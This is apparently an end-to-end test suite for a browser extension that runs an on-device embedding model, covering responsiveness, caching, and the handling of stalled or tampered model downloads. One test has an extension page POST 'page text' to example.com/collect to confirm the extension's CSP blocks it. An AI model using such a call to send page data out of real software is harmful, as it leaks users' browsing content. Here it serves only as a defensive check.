import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { DEFAULT_MODEL_ID } from '../../lib/model/catalog';
import type { ModelStatus } from '../../lib/model/status';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { extractFromHtml } from '../../lib/core/extract/from-html';
import { BUILT_IN_MODEL_ID, modelInfo } from '../../lib/model/catalog';
import { createModelHost } from '../../lib/model/host';
import { toPassages } from '../../lib/core/score/semantic';
import { ensureUseLite } from '../../scripts/use-lite/convert';
import { checksFor, launch, MODEL_EXTENSION, PAGES, readKv, screenshot, startModelServer, startPageServer, tabIdOf, TEST_MODEL_DIR, writeKv, type Browser } from './harness';

const MULTILINGUAL = 'Xenova/multilingual-e5-small';
/** The revision the stand-in hub's model is pinned to, as the catalogue pins the real one. */
const REVISION = 'fedcba9876543210fedcba9876543210fedcba98';
let browser: Browser;
let pages: Awaited<ReturnType<typeof startPageServer>>;
let hub: Awaited<ReturnType<typeof startModelServer>>;

before(async () => {
  pages = await startPageServer();
  // The downloads below are plumbing: the stand-in hub serves the tiny generated model. What is bundled is the real one.
  hub = await startModelServer(TEST_MODEL_DIR, MULTILINGUAL);
  browser = await launch({ extension: MODEL_EXTENSION });
  // Record any CSP violation in extension pages (a blocked WASM or script would show here).
  await browser.context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      const w = window as unknown as { __csp?: string[] };
      (w.__csp ??= []).push(`${e.violatedDirective} ${e.blockedURI}`);
    });
  });
});
after(async () => {
  await browser?.close();
  pages?.server.close();
  hub?.close();
});

async function popupFor(name: string): Promise<{ popup: Page; tabId: number }> {
  const page = await browser.context.newPage();
  await page.goto(pages.url(name));
  const tabId = await tabIdOf(browser.worker, pages.url(name));
  const popup = await browser.extPage(`popup.html?tabId=${tabId}`);
  // A cold model (first load, WASM compiled and warming up) on a busy 2-core CI machine: give it time.
  await popup.getByRole('list', { name: 'Suggestions' }).waitFor({ timeout: 120_000 });
  // Word matching answers first; these tests read the model's answer, which replaces it in place.
  await popup.locator('.refine.busy').waitFor({ state: 'detached', timeout: 120_000 });
  return { popup, tabId };
}

async function csp(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __csp?: string[] }).__csp ?? []);
}

async function offscreenOpen(): Promise<boolean> {
  return browser.worker.evaluate(async () => (await chrome.runtime.getContexts({ contextTypes: ['OFFSCREEN_DOCUMENT' as chrome.runtime.ContextType] })).length > 0);
}

/** Every file of a build, relative to it, with its size. */
function filesOf(dir: string, under = ''): { path: string; size: number }[] {
  return readdirSync(join(dir, under), { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? filesOf(dir, join(under, e.name)) : [{ path: join(under, e.name), size: statSync(join(dir, under, e.name)).size }],
  );
}

describe('on-device model in Chromium', () => {
  it('ships ONNX Runtime’s plain WASM build, not the WebGPU (JSEP) one the host never uses', () => {
    const files = filesOf(MODEL_EXTENSION);
    const wasm = files.filter((f) => f.path.endsWith('.wasm')).map((f) => f.path);
    assert.deepEqual(wasm, ['ort/ort-wasm-simd-threaded.wasm']);
    assert.ok(files.some((f) => f.path === 'ort/ort-wasm-simd-threaded.mjs'));
    const mb = files.reduce((sum, f) => sum + f.size, 0) / 1e6;
    // 31 MB with the JSEP build; 20 MB now (11 MB of it ONNX Runtime, 7 MB the model).
    assert.ok(mb < 24, `the build holds ${mb.toFixed(1)} MB`);
  });

  it('keeps the other extension pages responsive while the model loads cold and embeds a long article', async () => {
    // Extension pages share one renderer main thread. Before the model ran in a worker, ONNX Runtime's WASM held that
    // thread for seconds: a 50 ms timer in another page fired 19 s late here (now: about 0.2 s; the bound leaves room for a
    // loaded machine), and a popup opened during a cold load took 5-11 s to answer.
    const watcher = await browser.extPage('options.html');
    await watcher.getByRole('list', { name: 'Personas' }).waitFor();
    const page = await browser.context.newPage();
    await page.goto(pages.url('wikipedia-2')); // New Zealand: a long English article, never scored before
    const tabId = await tabIdOf(browser.worker, pages.url('wikipedia-2'));
    assert.equal(await offscreenOpen(), false, 'the model is cold: its host is not open yet');
    await watcher.evaluate(() => {
      const w = window as unknown as { __late: number; __ticks: number };
      w.__late = 0;
      w.__ticks = 0;
      let last = performance.now();
      setInterval(() => {
        const now = performance.now();
        w.__late = Math.max(w.__late, now - last - 50);
        w.__ticks++;
        last = now;
      }, 50);
    });
    const opened = Date.now();
    const popup = await browser.context.newPage();
    await popup.goto(`chrome-extension://${browser.extensionId}/popup.html?tabId=${tabId}`, { timeout: 120_000 });
    await popup.getByRole('list', { name: 'Suggestions' }).waitFor({ timeout: 120_000 });
    const shownMs = Date.now() - opened;
    const refining = await popup.locator('.refine.busy').count();
    await popup.locator('.refine.busy').waitFor({ state: 'detached', timeout: 120_000 });
    const busyMs = Date.now() - opened;
    const { late, ticks } = await watcher.evaluate(() => {
      const w = window as unknown as { __late: number; __ticks: number };
      return { late: w.__late, ticks: w.__ticks };
    });
    process.stdout.write(
      `# cold load + long article: popup answered by word matching in ${shownMs} ms, model done in ${busyMs} ms; a 50 ms timer in another page at most ${Math.round(late)} ms late (${ticks} ticks)\n`,
    );
    assert.equal((await popup.locator('.mode').textContent())?.trim(), 'hybrid');
    assert.equal(refining, 1, `the word-matching answer came while the model was still busy (shown after ${shownMs} ms, model done after ${busyMs} ms)`);
    assert.ok(late < 1_000, `a 50 ms timer in another extension page fired ${Math.round(late)} ms late while the model worked`);
    assert.ok(shownMs < 10_000, `the popup answered after ${shownMs} ms`);
    await popup.close();
    await page.close();
    await watcher.close();
  });

  it('scores with the bundled model (hybrid), shows it, and never contacts the hub', async () => {
    const { popup } = await popupFor('v8-blog');
    assert.equal((await popup.locator('.mode').textContent())?.trim(), 'hybrid');
    const status = await readKv<ModelStatus>(browser.worker, 'modelStatus');
    assert.equal(status?.modelId, DEFAULT_MODEL_ID);
    assert.equal(status?.phase, 'ready');
    assert.equal(status?.source, 'bundled');
    assert.ok(await offscreenOpen(), 'the model runs in the offscreen document');
    assert.deepEqual(await csp(popup), []);
    assert.deepEqual(
      browser.blocked.filter((u) => /huggingface|hf\.co/.test(u)),
      [],
    );
    assert.deepEqual(hub.state.requests, []);
    await popup.close();
  });

  it('computes meaning in the browser as in Node: the same vectors for a real article, related news closer than unrelated', async () => {
    // A 1,550-word article cut into passages as the scorer cuts it, and three sentences whose meaning is known.
    const page = extractFromHtml(readFileSync(join(PAGES, 'citylab-1', 'source.html'), 'utf8'), 'https://www.citylab.com/a');
    const passages = toPassages(page.title, page.text, modelInfo(BUILT_IN_MODEL_ID)!.maxTokens).texts;
    const sentences = ['The stock market rose today', 'Shares climbed on Wall Street', 'The football team won the match'];
    // The background's own route to the model host (the offscreen document is open since the first test).
    const embed = (texts: string[]) =>
      browser.worker.evaluate(
        async ({ modelId, texts }) => {
          const started = performance.now();
          const reply = (await chrome.runtime.sendMessage({
            type: 'model-host.embed',
            payload: { plan: { modelId, bundled: true }, texts, kind: 'passage', idleMs: 180_000, stallMs: 60_000 },
          })) as { ok: boolean; data?: number[][]; error?: { message: string } };
          if (!reply.ok) throw new Error(reply.error?.message);
          return { vectors: reply.data!, ms: performance.now() - started };
        },
        { modelId: BUILT_IN_MODEL_ID, texts },
      );
    const inBrowser = await embed([...sentences, ...passages]);
    const warm = await embed(passages);
    process.stdout.write(`# the built-in model in the offscreen document: ${passages.length} passages of a 1,550-word article in ${Math.round(warm.ms)} ms (warm)\n`);

    const dir = ensureUseLite().dir;
    const node = createModelHost({ localModelPath: dir.slice(0, -BUILT_IN_MODEL_ID.length) });
    const inNode = await node.embed({ modelId: BUILT_IN_MODEL_ID, bundled: true }, [...sentences, ...passages], 'passage');
    await node.dispose();
    const dot = (a: number[], b: number[]) => a.reduce((s, x, i) => s + x * b[i]!, 0);
    assert.equal(inBrowser.vectors.length, sentences.length + passages.length);
    for (const [i, v] of inBrowser.vectors.entries()) {
      assert.equal(v.length, 512);
      assert.ok(dot(v, inNode[i]!) > 0.999, `text ${i}: cosine ${dot(v, inNode[i]!)} between ONNX Runtime's WASM and onnxruntime-node`);
    }
    const [market, shares, football] = inBrowser.vectors as [number[], number[], number[]];
    assert.ok(dot(market, shares) > 0.5, `related: ${dot(market, shares)}`);
    assert.ok(dot(market, football) < 0.25, `unrelated: ${dot(market, football)}`);
  });

  it('scores a French page by word matching, and says so: the built-in model reads English only', async () => {
    const { popup } = await popupFor('videos-2');
    assert.equal((await popup.locator('.mode').textContent())?.trim(), 'lexical');
    await popup
      .getByRole('note')
      .filter({ hasText: /This page is in French: word matching scored it, because the model in use, Built-in English model/ })
      .waitFor({ timeout: 5_000 });
    await popup.close();
  });

  it('serves a revisit from the cache: no inference runs', async () => {
    const before = (await readKv<ModelStatus>(browser.worker, 'modelStatus'))?.inferences ?? 0;
    const { popup } = await popupFor('v8-blog');
    assert.equal((await popup.locator('.mode').textContent())?.trim(), 'hybrid · cached');
    assert.equal((await readKv<ModelStatus>(browser.worker, 'modelStatus'))?.inferences, before);
    await popup.close();
  });

  it('closes the offscreen document when idle, and a later request re-creates it', async () => {
    await writeKv(browser.worker, 'modelIdleMs', 2_000);
    const { popup } = await popupFor('aclu');
    assert.equal((await popup.locator('.mode').textContent())?.trim(), 'hybrid');
    for (let i = 0; i < 50 && (await offscreenOpen()); i++) await new Promise((r) => setTimeout(r, 200));
    assert.equal(await offscreenOpen(), false, 'closed after its idle time');
    // A page never seen before needs inference: the document comes back.
    const next = await popupFor('wikipedia');
    assert.equal(await offscreenOpen(), true);
    assert.equal((await next.popup.locator('.mode').textContent())?.trim(), 'hybrid');
    await writeKv(browser.worker, 'modelIdleMs', 180_000);
    await popup.close();
    await next.popup.close();
  });

  it('answers lexically when the model is switched off', async () => {
    const options = await browser.extPage('options.html');
    await options.getByRole('radio', { name: /Off — word matching only/ }).check();
    await options.waitForTimeout(200);
    const { popup } = await popupFor('firefox-nightly-blog');
    assert.equal((await popup.locator('.mode').textContent())?.trim(), 'lexical');
    await popup.close();
    await options.close();
  });

  it('blocks, by its CSP, any connection from an extension page to a host other than the model hub', async () => {
    const options = await browser.extPage('options.html');
    const outcome = await options.evaluate(async () => {
      try {
        await fetch('https://example.com/collect', { method: 'POST', body: 'page text' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    });
    assert.equal(outcome, 'blocked');
    // The browser's CSP stopped it (not only this test's network filter, which would log it in browser.blocked).
    for (let i = 0; i < 20 && (await csp(options)).length === 0; i++) await options.waitForTimeout(50);
    assert.deepEqual(await csp(options), ['connect-src https://example.com/collect']);
    assert.equal(
      browser.blocked.some((u) => u.startsWith('https://example.com')),
      false,
    );
    await options.close();
  });

  it('a download that stalls ends in a plain error within the stall time, and its host is closed', async () => {
    await writeKv(browser.worker, 'testModelHost', hub.origin);
    await writeKv(browser.worker, 'testModelFiles', { revision: REVISION, files: checksFor(TEST_MODEL_DIR) });
    await writeKv(browser.worker, 'modelStallMs', 3_000);
    hub.state.stall = true;
    const options = await browser.extPage('options.html');
    await options.getByRole('radio', { name: /Multilingual/ }).check();
    const download = options.getByRole('button', { name: /Download 135 MB and use it/ });
    await download.waitFor();
    const started = Date.now();
    await download.click();
    const alert = options.getByRole('alert').filter({ hasText: /nothing happened for 3 seconds/ });
    await alert.waitFor({ timeout: 20_000 });
    const took = Date.now() - started;
    assert.ok(took < 15_000, `error shown after ${took} ms`);
    for (let i = 0; i < 25 && (await offscreenOpen()); i++) await options.waitForTimeout(200);
    assert.equal(await offscreenOpen(), false, 'the stuck host was closed');
    assert.ok(
      hub.state.requests.every((r) => r.startsWith(`/${MULTILINGUAL}/resolve/${REVISION}/`)),
      hub.state.requests.join(', '),
    );
    await options.close();
  });

  it('refuses weights that are not the expected ones, and caches nothing of them', async () => {
    hub.state.stall = false;
    hub.state.tamper = true;
    hub.state.requests = [];
    const options = await browser.extPage('options.html');
    await options.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
    const alert = options.getByRole('alert').filter({ hasText: /was not the expected one \(onnx\/model_quantized\.onnx\), so nothing was kept/ });
    await alert.waitFor({ timeout: 30_000 });
    // Retry really retried: the weights were asked for again, from a fresh host.
    assert.ok(hub.state.requests.some((r) => r.endsWith('/onnx/model_quantized.onnx')));
    const cached = await options.evaluate(async () => (await (await caches.open('transformers-cache')).keys()).map((r) => r.url));
    assert.deepEqual(
      cached.filter((u) => u.includes('multilingual-e5-small')),
      [],
    );
    await screenshot(options, 'options-model-integrity-error');
    await options.close();
  });

  it('downloads a model after consent, with progress, and retries after an interrupted download', async () => {
    hub.state.tamper = false;
    hub.state.interrupt = true;
    await writeKv(browser.worker, 'modelStallMs', 60_000);
    const options = await browser.extPage('options.html');
    await options.getByRole('alert').getByRole('button', { name: 'Retry' }).click();
    await options.getByRole('progressbar', { name: /Downloading the model/ }).waitFor({ timeout: 10_000 });
    const alert = options.getByRole('alert').filter({ hasText: /download failed/ });
    await alert.waitFor({ timeout: 30_000 });
    await screenshot(options, 'options-model-error');

    // Meanwhile, suggestions still come, from word matching.
    const { popup } = await popupFor('aclu');
    assert.equal((await popup.locator('.mode').textContent())?.trim().startsWith('lexical'), true);
    await popup
      .getByRole('alert')
      .filter({ hasText: /download failed/ })
      .waitFor();

    hub.state.interrupt = false;
    await alert.getByRole('button', { name: 'Retry' }).click();
    const bar = options.getByRole('progressbar', { name: /Downloading the model/ });
    await bar.waitFor({ timeout: 10_000 });
    const values = new Set<string>();
    for (let i = 0; i < 40 && (await bar.count()) > 0; i++) {
      values.add((await bar.getAttribute('aria-valuenow').catch(() => null)) ?? '');
      await options.waitForTimeout(100);
    }
    assert.ok([...values].filter(Boolean).length >= 2, `progress moved: ${[...values].join(',')}`);
    await options.getByText(/Model ready \(downloaded\)/).waitFor({ timeout: 30_000 });
    await screenshot(options, 'options-model-ready');

    // The popup that was showing lexical results asks again by itself once the model is ready.
    await popup.locator('.mode', { hasText: 'hybrid' }).waitFor({ timeout: 30_000 });
    const cached = await options.evaluate(async () => (await (await caches.open('transformers-cache')).keys()).map((r) => r.url));
    assert.ok(
      cached.some((u) => u.includes('multilingual-e5-small') && u.endsWith('model_quantized.onnx')),
      'the weights are in Cache Storage',
    );
    const status = await readKv<ModelStatus>(browser.worker, 'modelStatus');
    assert.equal(status?.modelId, MULTILINGUAL);
    assert.equal(status?.source, 'download');
    assert.deepEqual(await csp(options), []);
    await popup.close();
    await options.close();
  });
});
